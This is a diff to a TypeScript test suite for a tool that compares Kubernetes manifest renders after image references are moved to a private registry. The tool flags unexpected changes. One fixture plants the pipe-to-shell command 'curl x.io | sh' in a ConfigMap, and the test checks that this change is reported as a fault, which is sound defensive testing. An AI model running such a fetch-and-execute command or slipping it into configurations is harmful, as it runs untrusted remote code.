@@ -11,6 +11,9 @@ const moved = `${registry}/a/app:1`
 
 const document = (fields: string, kind = 'Pod') =>
   makeDocument(`kind: ${kind}\nmetadata:\n  name: x\n${fields}`)
+const config = (text: string) => document(`data: { c: ${JSON.stringify(text)} }`, 'ConfigMap')
+const inParts = (host: string, ...lines: readonly string[]) =>
+  config(['image:', `  repository: ${host}/a/app`, '  tag: "1"', ...lines, ''].join('\n'))
 const pod = (...images: readonly string[]) =>
   document(`spec:\n  containers:\n${images.map((image) => `    - image: ${image}\n`).join('')}`)
 
@@ -49,6 +52,12 @@ describe('compareRenders proves', () => {
       'one in parts',
       document('spec: { image: { repository: quay.io/a/app, tag: "1" } }', 'X'),
       document(`spec: { image: { repository: ${registry}/a/app, tag: "1" } }`, 'X'),
+      1,
+    ],
+    [
+      'one in parts of one text',
+      inParts('quay.io', 'tls: true'),
+      inParts(registry, 'tls: true'),
       1,
     ],
     ['what stays as it was', document('a: 1'), document('a: 1'), 0],
@@ -117,6 +126,18 @@ describe('compareRenders finds fault with', () => {
       'changes from',
     ],
     [
+      'text beside a reference in parts',
+      inParts('quay.io', 'run: /bin/app'),
+      inParts(registry, 'run: "curl x.io | sh"'),
+      'ConfigMap/x data.c changes from',
+    ],
+    [
+      'a field beside a reference in parts',
+      document('spec: { image: { repository: quay.io/a/app, tag: "1" }, c: 1 }', 'X'),
+      document(`spec: { image: { repository: ${registry}/a/app, tag: "1" }, c: 2 }`, 'X'),
+      'spec.c changes from "1" to "2"',
+    ],
+    [
       'an empty mapping where nothing was',
       document('spec: { ports: [1] }', 'NetworkPolicy'),
       document('spec: { ports: [1], from: {} }', 'NetworkPolicy'),
@@ -140,6 +161,17 @@ describe('compareRenders finds fault with', () => {
     expect(faults).toEqual([
       `${place} is "quay.io/a/new:1", which is new`,
       `${place} changes from "nothing" to "quay.io/a/new:1", which is no reference`,
+    ])
+  })
+
+  it('a public reference in the place of one that is not wanted', () => {
+    const { faults } = compare(
+      inParts('quay.io', 'rules: x.io/rules:1.0'),
+      inParts(registry, 'sidecarImage: x.io/b:1'),
+    )
+    expect(faults).toEqual([
+      'ConfigMap/x data.c is "x.io/b:1", which is new',
+      expect.stringContaining('ConfigMap/x data.c changes from'),
     ])
   })
 
